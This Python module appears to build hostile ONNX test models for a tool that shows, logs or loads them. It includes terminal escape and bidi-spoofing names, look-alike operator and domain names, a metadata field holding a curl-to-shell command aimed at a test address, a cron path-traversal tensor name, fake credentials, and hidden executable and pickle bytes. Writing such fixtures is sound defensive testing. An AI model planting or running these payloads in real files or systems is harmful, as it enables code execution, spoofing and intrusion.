"""Models whose names, texts and hidden bytes are meant for whoever shows, logs or reads them."""

from __future__ import annotations

import pickle
from itertools import pairwise
from pathlib import Path

import onnx
from onnx import TensorProto, helper, parser

from .mutators import RELU


def parsed(text: str) -> onnx.ModelProto:
    return parser.parse_model(text)


def _node(name: str) -> bytes:
    model = parsed(RELU)
    model.graph.node[0].name = name
    return model.SerializeToString()


def _metadata(key: str, value: str) -> bytes:
    model = parsed(RELU)
    model.metadata_props.add(key=key, value=value)
    return model.SerializeToString()


# ---- characters


def name_with_an_escape_sequence() -> bytes:
    return _node("\x1b[2Jgone")


def name_with_a_bidi_override() -> bytes:
    return _node("user\u202exnno.tset")


def name_with_a_zero_width_space() -> bytes:
    return _node("con\u200bv1")


def name_with_a_line_break() -> bytes:
    return _node("relu\n[ERROR] model rejected")


def names_in_other_scripts() -> bytes:
    """As people write them: each in the letters of one language."""
    model = parsed(RELU)
    model.graph.node[0].name = "слой/свёртка"
    model.graph.name = "模型"
    model.producer_name = "Ångström éditeur"
    return model.SerializeToString()


def metadata_with_line_breaks() -> bytes:
    return _metadata("names", "{0: 'cat',\n\t1: 'dog'}\r\n")


# ---- look-alikes


def operator_with_a_cyrillic_letter() -> bytes:
    model = parsed(RELU)
    model.graph.node[0].name = "R\u0435lu_1"
    return model.SerializeToString()


def output_that_looks_like_an_input() -> bytes:
    model = parsed(RELU)
    model.graph.node[0].output[0] = model.graph.output[0].name = "\u0445"  # Cyrillic; the input is x
    return model.SerializeToString()


def domain_that_looks_like_another() -> bytes:
    model = parsed(RELU)
    model.opset_import.add(domain="com.micros0ft", version=1)
    return model.SerializeToString()


# ---- long ones


def node_with_a_name_of_256() -> bytes:
    return _node("n" * 256)


def node_with_a_name_of_300() -> bytes:
    return _node("n" * 300)


# ---- texts that are more


def metadata_with_a_command() -> bytes:
    return _metadata("note", "$(curl -s http://198.51.100.7/x | sh)")


def metadata_with_a_key() -> bytes:
    return _metadata("aws", "AKIA" + "IOSFODNN7EXAMPLE")  # of AWS's own documentation


def node_with_a_token() -> bytes:
    return _node("ghp_" + "a1B2" * 9)


def metadata_with_an_address() -> bytes:
    return _metadata("homepage", "http://198.51.100.7/beacon.png")


def tensor_named_like_a_path() -> bytes:
    model = parsed(RELU)
    model.graph.node[0].output[0] = model.graph.output[0].name = "../../../../etc/cron.d/job"
    return model.SerializeToString()


def metadata_with_runtime_options() -> bytes:
    return _metadata("ort_config", '{"session_options": {"intra_op_num_threads": 64}}')


# ---- what grows


def text_doubled_thirty_times() -> bytes:
    nodes = [helper.make_node("StringConcat", [f"t{i}", f"t{i}"], [f"t{i + 1}"]) for i in range(30)]
    x, y = (helper.make_tensor_value_info(name, TensorProto.STRING, [1]) for name in ("t0", "t30"))
    graph = helper.make_graph(nodes, "g", [x], [y])
    return helper.make_model(graph, ir_version=9, opset_imports=[helper.make_opsetid("", 20)]).SerializeToString()


def calling(length: int, calls: int) -> bytes:
    """Each function calls the next so many times."""
    imports = [helper.make_opsetid("", 17), helper.make_opsetid("f", 1)]
    functions = []
    for i in range(length):
        names = ["a", *(f"t{j}" for j in range(1, calls)), "c"]
        nodes = [helper.make_node(f"f{i + 1}", [a], [b], domain="f") for a, b in pairwise(names)]
        functions.append(helper.make_function("f", f"f{i}", ["a"], ["c"], nodes, imports))
    last = helper.make_node("Neg", ["a"], ["c"])
    functions.append(helper.make_function("f", f"f{length}", ["a"], ["c"], [last], imports))
    x, y = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [2]) for name in ("x", "y"))
    graph = helper.make_graph([helper.make_node("f0", ["x"], ["y"], domain="f")], "g", [x], [y])
    return helper.make_model(graph, functions=functions, ir_version=8, opset_imports=imports).SerializeToString()


def functions_that_call_the_next_twice() -> bytes:
    return calling(24, 2)


def functions_a_hundred_deep() -> bytes:
    return calling(100, 1)


def nested(depth: int) -> onnx.ModelProto:
    """If within If, so many branches within one another."""
    graph = helper.make_graph(
        [helper.make_node("Relu", ["x"], ["z0"])],
        "g0",
        [],
        [helper.make_tensor_value_info("z0", TensorProto.FLOAT, [2])],
    )
    for i in range(1, depth + 1):
        other = helper.make_graph(
            [helper.make_node("Neg", ["x"], [f"e{i}"])], f"e{i}", [],
            [helper.make_tensor_value_info(f"e{i}", TensorProto.FLOAT, [2])],
        )  # fmt: skip
        node = helper.make_node("If", ["c"], [f"z{i}"], f"if{i}", then_branch=graph, else_branch=other)
        output = helper.make_tensor_value_info(f"z{i}", TensorProto.FLOAT, [2])
        graph = helper.make_graph([node], f"g{i}", [], [output])
    graph.input.append(helper.make_tensor_value_info("c", TensorProto.BOOL, []))
    graph.input.append(helper.make_tensor_value_info("x", TensorProto.FLOAT, [2]))
    return helper.make_model(graph, ir_version=8, opset_imports=[helper.make_opsetid("", 17)])


def branches_five_deep() -> bytes:
    return nested(5).SerializeToString()


def branches_eight_deep() -> bytes:
    return nested(8).SerializeToString()


def branches_twenty_deep() -> bytes:
    return nested(20).SerializeToString()


# ---- what hides


def external(folder: Path, data: bytes, *places: tuple[int, int]) -> Path:
    """Tensors of float32 that lie in ``weights.bin`` at these offsets, of so many elements each."""
    model = parsed(RELU)
    for i, (offset, count) in enumerate(places):
        tensor = model.graph.initializer.add(name=f"w{i}", data_type=TensorProto.FLOAT, dims=[count])
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", "weights.bin"), ("offset", offset), ("length", count * 4)):
            tensor.external_data.add(key=key, value=str(value))
        out = model.graph.output.add(name=f"w{i}")
        out.type.tensor_type.elem_type = TensorProto.FLOAT
    (folder / "weights.bin").write_bytes(data)
    path = folder / "model.onnx"
    path.write_bytes(model.SerializeToString())
    return path


def external_data_with_a_tail(folder: Path) -> Path:
    return external(folder, bytes(64) + b"payload", (0, 16))


def external_data_with_a_gap(folder: Path) -> Path:
    return external(folder, bytes(64) + b"\x7fELF" + bytes(60) + bytes(64), (0, 16), (128, 16))


def external_data_with_padding(folder: Path) -> Path:
    return external(folder, bytes(8192), (0, 16), (4096, 16))


def documentation_of_100_000() -> bytes:
    model = parsed(RELU)
    model.doc_string = "words, " * 15_000
    return model.SerializeToString()


def _bytes_in_a_tensor(data: bytes) -> bytes:
    model = parsed(RELU)
    model.graph.initializer.append(helper.make_tensor("blob", TensorProto.UINT8, [len(data)], data, raw=True))
    model.graph.output.append(helper.make_tensor_value_info("blob", TensorProto.UINT8, [len(data)]))
    return model.SerializeToString()


def tensor_that_is_a_program() -> bytes:
    return _bytes_in_a_tensor(b"\x7fELF\x02\x01\x01" + bytes(200))


def tensor_that_is_a_pickle() -> bytes:
    return _bytes_in_a_tensor(pickle.dumps({"weights": list(range(100))}))
